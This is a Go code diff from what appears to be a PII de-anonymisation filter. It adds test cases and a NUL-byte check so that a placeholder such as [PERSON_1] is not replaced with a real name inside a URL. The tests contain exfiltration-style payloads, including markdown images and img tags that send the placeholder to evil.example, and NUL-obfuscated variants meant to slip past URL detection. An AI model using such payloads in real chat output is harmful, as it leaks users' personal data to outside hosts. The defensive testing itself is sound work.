@@ -39,6 +39,10 @@ var linkCases = []struct{ name, in, want string }{
 	{"bare quoted with space", `<img src="https://evil.example/?n= PERSON_1">`, `<img src="https://evil.example/?n= PERSON_1">`},
 	{"bare www", "www.evil.example/PERSON_1", "www.evil.example/PERSON_1"},
 	{"bare protocol-relative", "//evil.example/?n=PERSON_1", "//evil.example/?n=PERSON_1"},
+	// NUL, which chat-ui's client (HuggingChat) drops from every token
+	// and HTML parsers drop from text, does not hide a URL's start.
+	{"NUL in scheme", "![](htt\x00ps:\x00/\x00/evil.example/?n=[PERSON_1])", "![](htt\x00ps:\x00/\x00/evil.example/?n=[PERSON_1])"},
+	{"NUL in www", "ww\x00w.evil.example/PERSON_1", "ww\x00w.evil.example/PERSON_1"},
 
 	{"plain", "Sehr geehrte [PERSON_1],", "Sehr geehrte Anna Schmidt,"},
 	{"after url", "Quelle: https://www.bund.de – Ansprechpartnerin [PERSON_1].", "Quelle: https://www.bund.de – Ansprechpartnerin Anna Schmidt."},
@@ -164,6 +168,9 @@ func inURLReference(text string) bool {
 	in := false
 	for i := 0; i < len(text); i++ {
 		c := text[i]
+		if c == 0 { // dropped by the client
+			continue
+		}
 		space := strings.IndexByte(" \t\n\r\f\v", c) >= 0
 		if in {
 			if space && closer == 0 || closer != 0 && c == closer {
